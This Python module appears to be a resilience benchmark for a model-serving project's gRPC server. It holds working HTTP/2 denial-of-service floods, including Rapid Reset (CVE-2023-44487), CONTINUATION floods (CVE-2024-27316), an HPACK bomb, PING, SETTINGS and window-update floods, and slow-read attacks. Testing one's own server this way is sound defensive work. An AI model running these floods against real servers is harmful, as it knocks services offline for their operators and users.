"""Floods: each sends a server of HTTP/2 what no honest client does, as fast as it takes it.

Each takes the server, how much to do, and a list of connections to be held open until its effect was measured. It
returns what it did, in words.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np

from benchmarks.abuse.peer import (
    ACK,
    CONTINUATION,
    DATA,
    DEFAULT_WINDOW,
    EMBED,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SCORE_STREAM,
    SETTINGS,
    WATCH,
    WIDEST,
    Peer,
    data_frames,
    frame,
    message,
    setting,
    window_update,
)
from latentserve.tensors import to_tensor
from latentserve.v1 import embedding_pb2 as pb

Held = list[Peer]
AT_ONCE = 500
"""Frames in one piece: as many as it takes for the sending not to be what is measured."""
ROWS = 1000
"""Of a request of 64 kB whose answer has 1 MB."""
SMALL_BUFFER = 4096


@dataclass(frozen=True)
class Effort:
    """How much to do.

    Attributes:
        seconds: of a flood.
        share: of the full number of connections, frames or bytes.
        patience_seconds: how long slow clients go on.
    """

    seconds: float = 8.0
    share: float = 1.0
    patience_seconds: float = 70.0

    def times(self, number: int) -> int:
        """The number, scaled."""
        return max(1, int(number * self.share))


def request(rows: int) -> bytes:
    """A message of Embed for the bundle of `make demo`."""
    given = pb.Input(tensor=to_tensor(np.zeros((rows, 8, 8, 1), np.uint8)))
    return message(pb.EmbedRequest(model=pb.ModelSelector(name="digits-vae"), input=given).SerializeToString())


def flood(
    connect: Callable[[], Peer], sent: bytes, effort: Effort, held: Held, most: int = 400 << 20, reads: bool = False
) -> str:
    """The same bytes until time or bytes are up, on a new connection when the server closes one or reads no more."""
    end, total, connections = time.monotonic() + effort.seconds, 0, 0
    while time.monotonic() < end and total < effort.times(most):
        peer = connect()
        connections += 1
        held.append(peer)
        while time.monotonic() < end and total < effort.times(most) and peer.send(sent):
            total += len(sent)
            if reads:
                peer.taken()
        if not peer.taken(most=1 << 20):
            held.pop().close()
    return f"{total / 2**20:.1f} MiB on {connections} connections, {sum(peer.is_open for peer in held)} open"


def rapid_reset(target: str, effort: Effort, __: Held) -> str:
    """CVE-2023-44487: streams that are cancelled as soon as they are opened, on new connections if need be."""
    opened = connections = 0
    end = time.monotonic() + 5 * effort.seconds
    while opened < effort.times(100_000) and connections < 400 and time.monotonic() < end:
        peer = Peer(target)
        connections += 1
        block = peer.short_block(SCORE_STREAM)
        while opened < effort.times(100_000) and peer.taken():
            pairs = []
            for _ in range(AT_ONCE):
                peer.stream += 2
                pairs.append(frame(HEADERS, END_HEADERS, peer.stream, block))
                pairs.append(frame(RST_STREAM, 0, peer.stream, b"\0\0\0\x08"))
            if not peer.send(b"".join(pairs)):
                break
            opened += AT_ONCE
        peer.close()
    return f"{opened:,} streams on {connections} connections"


def continuation(target: str, effort: Effort, held: Held) -> str:
    """CVE-2024-27316: header fields without an end."""
    literal = b"\0\x03x-a\x7f\x81\x7c" + b"a" * 16000  # not indexed; a length of 127 + 1 + 124 x 128
    return flood(lambda: _unended(target), frame(CONTINUATION, 0, 1, literal), effort, held)


def empty_continuation(target: str, effort: Effort, held: Held) -> str:
    """As `continuation`, without a byte."""
    return flood(lambda: _unended(target), frame(CONTINUATION, 0, 1) * 20 * AT_ONCE, effort, held, 30 << 20)


def hpack_bomb(target: str, effort: Effort, __: Held) -> str:
    """One long field in the table, then blocks of a byte for each of thousands of times it is meant."""
    blocks = connections = 0
    end = time.monotonic() + effort.seconds
    while time.monotonic() < end:
        peer = Peer(target)
        connections += 1
        block = peer.short_block(EMBED, ("x-long", "a" * 3900))
        for _ in range(20):
            peer.stream += 2
            bomb = block + b"\xbe" * 12_000  # index 62: what came into the table last
            if not peer.send(frame(HEADERS, END_HEADERS | END_STREAM, peer.stream, bomb)):
                break
            blocks += 1
        peer.taken()
        peer.close()
    return f"{blocks:,} blocks on {connections} connections"


def settings(target: str, effort: Effort, held: Held) -> str:
    """Windows changed thousands of times in each frame, with a thousand streams open, answers not read."""
    entries = b"".join(setting(INITIAL_WINDOW_SIZE, DEFAULT_WINDOW + number % 2) for number in range(2700))
    return flood(lambda: _with_streams(target, 999), frame(SETTINGS, 0, 0, entries), effort, held, 5 << 20)


def empty_settings(target: str, effort: Effort, held: Held) -> str:
    """Each is to be acknowledged; no acknowledgement is read."""
    return flood(lambda: _watching(target), frame(SETTINGS, 0, 0) * 4 * AT_ONCE, effort, held)


def ping(target: str, effort: Effort, held: Held) -> str:
    """Each is to be answered; no answer is read."""
    return flood(lambda: _watching(target), frame(PING, 0, 0, b"12345678") * 4 * AT_ONCE, effort, held)


def ping_read(target: str, effort: Effort, held: Held) -> str:
    """Each is to be answered, and the answers are read."""
    return flood(lambda: _watching(target), frame(PING, 0, 0, b"12345678") * 4 * AT_ONCE, effort, held, reads=True)


def windows(target: str, effort: Effort, held: Held) -> str:
    """One byte more room for the connection, again and again, with a thousand streams open."""
    return flood(lambda: _with_streams(target, 999), window_update(0, 1) * 4 * AT_ONCE, effort, held, 60 << 20)


def empty_data(target: str, effort: Effort, held: Held) -> str:
    """Frames of a body without a byte of it."""

    def streaming() -> Peer:
        peer = Peer(target)
        peer.send(peer.opening(SCORE_STREAM))
        return peer

    return flood(streaming, frame(DATA, 0, 1) * 10 * AT_ONCE, effort, held, 60 << 20)


def unread_answers(target: str, effort: Effort, held: Held) -> str:
    """Windows wide open, the socket not read: requests of 64 kB, answers of 1 MB."""
    body, asked, end = request(ROWS), 0, time.monotonic() + effort.seconds
    while time.monotonic() < end and asked < effort.times(800):
        peer = Peer(target, setting(INITIAL_WINDOW_SIZE, WIDEST), receive_bytes=SMALL_BUFFER)
        held.append(peer)
        peer.send(window_update(0, WIDEST - DEFAULT_WINDOW))
        while time.monotonic() < end and asked < effort.times(800):
            head = peer.opening(EMBED)
            if not peer.send(head + data_frames(peer.stream, body, ended=True)):
                break
            asked += 1
            time.sleep(0.02)
    return f"{asked} requests on {len(held)} connections, {sum(peer.is_open for peer in held)} open"


def unread_errors(target: str, effort: Effort, held: Held) -> str:
    """Unknown methods whose long name is a few bytes by now; no answer is read."""
    asked, end = 0, time.monotonic() + effort.seconds
    while time.monotonic() < end:
        peer = Peer(target, receive_bytes=SMALL_BUFFER)
        held.append(peer)
        block = peer.short_block("/" + "x" * 900)
        while time.monotonic() < end and peer.is_open:
            pieces = []
            for _ in range(2 * AT_ONCE):
                peer.stream += 2
                pieces.append(frame(HEADERS, END_HEADERS | END_STREAM, peer.stream, block))
            if not peer.send(b"".join(pieces)):
                break
            asked += 2 * AT_ONCE
    return f"{asked:,} requests on {len(held)} connections, {sum(peer.is_open for peer in held)} open"


def _with_streams(target: str, number: int) -> Peer:
    """A connection on which so many requests wait for their bodies."""
    peer = Peer(target)
    block, opened = peer.short_block(EMBED), []
    for _ in range(number):
        peer.stream += 2
        opened.append(frame(HEADERS, END_HEADERS, peer.stream, block))
    peer.send(b"".join(opened))
    peer.taken(0.5)
    peer.send(frame(SETTINGS, ACK, 0))
    return peer


def _unended(target: str) -> Peer:
    """A connection whose first header fields are to go on."""
    peer = Peer(target)
    peer.send(frame(HEADERS, END_STREAM, 1, b""))
    return peer


def _watching(target: str) -> Peer:
    """A connection with a stream that stays open for a good reason, and whose answers are not read."""
    peer = Peer(target, receive_bytes=SMALL_BUFFER)
    peer.send(peer.opening(WATCH) + frame(DATA, END_STREAM, 1, message(b"")))
    time.sleep(0.2)
    return peer


Attack = Callable[[str, Effort, Held], str]
FLOODS: tuple[Attack, ...] = (
    *(rapid_reset, continuation, empty_continuation, hpack_bomb, settings, empty_settings, ping, ping_read),
    *(windows, empty_data, unread_answers, unread_errors),
)
